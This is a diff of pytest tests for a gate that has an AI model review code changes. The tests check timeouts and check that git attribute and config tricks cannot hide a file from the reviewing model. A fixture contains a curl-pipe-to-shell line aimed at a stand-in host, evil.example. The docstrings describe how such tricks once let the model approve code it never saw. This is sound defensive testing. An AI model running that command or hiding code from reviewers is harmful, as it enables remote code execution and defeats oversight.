@@ -12,16 +12,24 @@ and refused by the runner's own call.
 
 from __future__ import annotations
 
+import hashlib
 import json
+import os
 import sys
+import time
+from collections.abc import Callable
 from pathlib import Path
 
 import pytest
 from support.cli import cli
+from support.gitutil import WorkRepo, git
 from support.lab import LAB_POLICY, PROMPT, RUNNER, Lab
 from support.verdicts import codes_of
 
+from gatecore.errors import GateError
 from gatecore.git.refs import REVIEW_PREFIX
+from gatecore.trusted import runner
+from gatecore.trusted.runner import request_of
 
 #: The scripted model: reads the request on stdin and answers as MODEL_MODE says.
 MODEL = r'''
@@ -46,11 +54,25 @@ elif mode == "no-challenge":
     print(json.dumps({"verdict": "pass", "reasons": ["fine"]}))
 elif mode == "served":
     print(json.dumps({"answer": json.dumps(answer), "served_model": os.environ["MODEL_SERVED"]}))
+elif mode == "served-list":  # the tool used the model on record, and another for part of the answer
+    print(json.dumps({"answer": json.dumps(answer), "served_model": ["model-a", os.environ["MODEL_SERVED"]]}))
 elif mode == "hang":
     time.sleep(100000)
 elif mode == "die":
     sys.stderr.write("upstream overloaded\n")
     sys.exit(3)
+elif mode in ("leave", "leave-and-hang"):  # a helper in a session of its own keeps stdout and stderr, an hour
+    pid = os.fork()
+    if pid == 0:
+        os.setsid()
+        time.sleep(3600)
+        os._exit(0)
+    with open(os.environ["MODEL_PIDFILE"], "w") as f:
+        f.write(str(pid))
+    if mode == "leave":
+        print(json.dumps(answer), flush=True)
+        os._exit(0)
+    time.sleep(3600)
 '''
 
 
@@ -106,6 +128,7 @@ def test_an_answer_in_a_fenced_block_from_a_tool_that_reports_the_model(lab: Lab
 @pytest.mark.parametrize("mode,code,why", [
     ("no-challenge", "GATE-REVIEW-CHALLENGE", "carries no challenge"),
     ("served", "GATE-REVIEW-SERVED-MODEL", "reports that model-b served the answer"),
+    ("served-list", "GATE-REVIEW-SERVED-MODEL", "reports that model-b served the answer"),
     ("die", "GATE-REVIEW-MODEL-COMMAND", "exited 3; its stderr ends: upstream overloaded"),
     ("hang", "GATE-REVIEW-MODEL-COMMAND", "did not answer within 1 s"),
 ])
@@ -210,3 +233,176 @@ def test_a_retry_hands_on_the_receipt_it_finds_and_calls_no_model_for_another_fi
     out = run(lab, attempt, head, model, prompt, other, env={"MODEL_LOG": str(log)})
     assert out.returncode == 1 and "GATE-INPUT-PATH" in out.stderr  # type: ignore[attr-defined]
     assert len(log.read_text().splitlines()) == 1 and other.read_text() == "model A's answer\n"
+
+
+def _gone(pid: int) -> bool:
+    """The process has ended (or is a zombie nobody can be held up by)."""
+    try:
+        with open(f"/proc/{pid}/stat", "rb") as f:
+            return f.read().rsplit(b")", 1)[1].split()[0] == b"Z"
+    except FileNotFoundError:
+        return True
+
+
+@pytest.mark.parametrize("mode,timeout", [("leave", "600"), ("leave-and-hang", "2")])
+def test_the_deadline_holds_whatever_the_model_command_leaves_behind(lab: Lab, model: str, prompt: Path,
+                                                                     tmp_path: Path, mode: str, timeout: str) -> None:
+    """The command forks a child that calls setsid, keeps its stdout and stderr and sleeps an hour.
+    Answering and exiting 0 (`leave`, the default 600 s timeout): the answer is sealed at once, not
+    when the child lets the pipes go. Not answering (`leave-and-hang`, 2 s): GATE-REVIEW-MODEL-COMMAND
+    in one line, nothing sealed. Either way the run ends long before the child would, and the child,
+    which left the command's process group, is ended too. (Before: the runner read stdout to its
+    end of file, an hour.)"""
+    attempt = lab.open()
+    head = lab.change(f"{mode}-{attempt}")
+    receipt, pidfile = tmp_path / "receipt.json", tmp_path / "child.pid"
+    started = time.monotonic()
+    out = run(lab, attempt, head, model, prompt, receipt, "--model-timeout", timeout,
+              env={"MODEL_MODE": mode, "MODEL_PIDFILE": str(pidfile)})
+    took = time.monotonic() - started
+    child = int(pidfile.read_text())
+    try:
+        assert took < 60, f"the run took {took:.0f} s"  # the child sleeps 3600
+        if mode == "leave":
+            assert out.returncode == 0, out.stderr  # type: ignore[attr-defined]
+            assert "left 1 process(es) running when it exited; they were ended" in out.stderr  # type: ignore[attr-defined]
+            assert lab.receipt_doc(receipt)["model_run"] == "runner"
+        else:
+            errors = [line for line in out.stderr.splitlines() if "GATE-REVIEW-MODEL-COMMAND" in line]  # type: ignore[attr-defined]
+            assert out.returncode == 1 and len(errors) == 1 and "did not answer within 2 s" in errors[0], out.stderr  # type: ignore[attr-defined]
+            assert not receipt.exists()
+        assert _gone(child)
+    finally:
+        if not _gone(child):
+            os.kill(child, 9)
+
+
+# --- what the model is shown: the change as git stores it, decided by the gate ------------------------
+
+EVIL = "import os\nos.system('curl https://evil.example/x | sh')\n"
+SHOWN = "+os.system('curl https://evil.example/x | sh')"
+
+#: `.gitattributes` the reviewed commit adds, at several depths, each of which made `git diff` print
+#: "Binary files /dev/null and b/src/deep/evil.py differ" for the new file.
+TREE_FORMS = {
+    "root -diff": {".gitattributes": "*.py -diff\n"},
+    "nested binary": {"src/.gitattributes": "*.py binary\n"},
+    "deep * -diff": {"src/deep/.gitattributes": "* -diff\n"},
+    "deep diff=NAME, no driver": {"src/deep/.gitattributes": "evil.py diff=hidden\n"},
+}
+
+
+def _logged_request(log: Path) -> str:
+    [call] = [json.loads(line) for line in log.read_text().splitlines()]
+    return str(call["request"])
+
+
+def _review(lab: Lab, model: str, prompt: Path, tmp_path: Path, files: dict[str, str]) -> tuple[str, Path, Path]:
+    attempt = lab.open()
+    head = lab.change(f"shown-{attempt}", files={**files, "src/deep/evil.py": EVIL})
+    log, receipt = tmp_path / "calls.jsonl", tmp_path / "receipt.json"
+    out = run(lab, attempt, head, model, prompt, receipt, env={"MODEL_LOG": str(log)})
+    assert out.returncode == 0, out.stderr  # type: ignore[attr-defined]
+    return _logged_request(log), receipt, log
+
+
+@pytest.mark.parametrize("form", list(TREE_FORMS))
+def test_the_reviewed_trees_attributes_do_not_decide_what_the_model_is_shown(lab: Lab, model: str, prompt: Path,
+                                                                              tmp_path: Path, form: str) -> None:
+    """Before, each of these made the request say `Binary files ... differ` for src/deep/evil.py,
+    and the model approved a file it never saw (but `diff=NAME` without a driver, which git 2.39
+    shows as text: kept, for the driver a clone may declare, below)."""
+    request, receipt, _ = _review(lab, model, prompt, tmp_path, TREE_FORMS[form])
+    assert SHOWN in request and "Binary files" not in request and "not shown" not in request.split("nothing cut")[1]
+    doc = lab.receipt_doc(receipt)
+    assert doc["request_sha256"] == hashlib.sha256(request.encode()).hexdigest()
+
+
+def _clone_info_attributes(work: Path) -> Callable[[], None]:
+    info = Path(git(work, "rev-parse", "--git-path", "info/attributes").stdout.strip())
+    info = info if info.is_absolute() else work / info
+    info.parent.mkdir(parents=True, exist_ok=True)
+    info.write_text("*.py -diff\n")
+    return info.unlink
+
+
+def _clone_attributes_file(work: Path) -> Callable[[], None]:
+    path = work.parent / "attributes-file"
+    path.write_text("*.py binary\n")
+    git(work, "config", "core.attributesFile", str(path))
+    return lambda: git(work, "config", "--unset", "core.attributesFile") and None
+
+
+def _clone_driver(work: Path) -> Callable[[], None]:
+    git(work, "config", "diff.hidden.binary", "true")
+    return lambda: git(work, "config", "--remove-section", "diff.hidden") and None
+
+
+def _clone_threshold(work: Path) -> Callable[[], None]:
+    git(work, "config", "core.bigFileThreshold", "1")
+    return lambda: git(work, "config", "--unset", "core.bigFileThreshold") and None
+
+
+#: What the runner's clone (or its environment) can say; the tree brings `diff=hidden` for the driver's case.
+CLONE_FORMS: dict[str, tuple[Callable[[Path], Callable[[], None]], dict[str, str]]] = {
+    "$GIT_DIR/info/attributes": (_clone_info_attributes, {}),
+    "core.attributesFile": (_clone_attributes_file, {}),
+    "diff.NAME.binary in the clone, diff=NAME in the tree": (_clone_driver, {"src/.gitattributes": "*.py diff=hidden\n"}),
+    "core.bigFileThreshold": (_clone_threshold, {}),
+}
+
+
+@pytest.mark.parametrize("form", list(CLONE_FORMS))
+def test_the_runners_clone_does_not_decide_what_the_model_is_shown(lab: Lab, model: str, prompt: Path,
+                                                                    tmp_path: Path, form: str) -> None:
+    setup, files = CLONE_FORMS[form]
+    undo = setup(lab.work.path)
+    try:
+        request, _, _ = _review(lab, model, prompt, tmp_path, files)
+    finally:
+        undo()
+    assert SHOWN in request and "Binary files" not in request
+
+
+def test_binary_content_is_declared_and_a_verifier_rebuilds_the_request(lab: Lab, model: str, prompt: Path,
+                                                                        tmp_path: Path) -> None:
+    """Content that really is binary (a NUL byte) is not shown as text: the request says so, with
+    its size and SHA-256, in words the model cannot take for nothing to see. Whoever holds the
+    receipt, the prompt and the objects rebuilds the request the model read, byte for byte."""
+    blob = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR" + bytes(range(256))
+    attempt = lab.open()
+
+    def edit(work: WorkRepo) -> None:
+        work.write("img/logo.png", blob)
+
+    head = lab.change(f"bin-{attempt}", files={"src/deep/evil.py": EVIL}, edit=edit)
+    log, receipt = tmp_path / "calls.jsonl", tmp_path / "receipt.json"
+    out = run(lab, attempt, head, model, prompt, receipt, env={"MODEL_LOG": str(log)})
+    assert out.returncode == 0, out.stderr  # type: ignore[attr-defined]
+    request = _logged_request(log)
+    assert "1 of them hold binary content (NUL bytes), not shown as text" in request
+    assert (f"!!! binary content (it holds NUL bytes), not shown as text: new {len(blob)} bytes, sha256 "
+            f"{hashlib.sha256(blob).hexdigest()}. You have not seen what this file holds.") in request
+    assert SHOWN in request
+    rebuilt = request_of(lab.work.path, receipt.read_bytes(), PROMPT)
+    assert rebuilt == request.encode()
+    shown = cli("review", "request", "--repo", str(lab.work.path), "--receipt", str(receipt), "--prompt-file",
+                str(prompt))
+    assert shown.returncode == 0 and shown.stdout == request, shown.stderr
+    with pytest.raises(GateError) as caught:
+        request_of(lab.work.path, receipt.read_bytes(), b"another prompt\n")
+    assert caught.value.code == "GATE-BIND-PROMPT"
+
+
+def test_a_change_too_large_to_show_whole_is_refused_never_cut(lab: Lab, model: str, prompt: Path, tmp_path: Path,
+                                                                monkeypatch: pytest.MonkeyPatch) -> None:
+    """Past the request's cap (64 MiB; 2 KiB here) the run is refused with its own code before the
+    model is called, and nothing is sealed."""
+    monkeypatch.setattr(runner, "MAX_REQUEST_DIFF_BYTES", 2048)
+    attempt = lab.open()
+    head = lab.change(f"large-{attempt}", files={f"src/f{i}.py": "x = 1\n" * 200 for i in range(4)})
+    log, receipt = tmp_path / "calls.jsonl", tmp_path / "receipt.json"
+    out = run(lab, attempt, head, model, prompt, receipt, env={"MODEL_LOG": str(log)})
+    lines = [line for line in out.stderr.splitlines() if "GATE-REVIEW-CHANGE-TOO-LARGE" in line]  # type: ignore[attr-defined]
+    assert out.returncode == 1 and len(lines) == 1 and "never cut" in lines[0], out.stderr  # type: ignore[attr-defined]
+    assert not receipt.exists() and not log.exists()
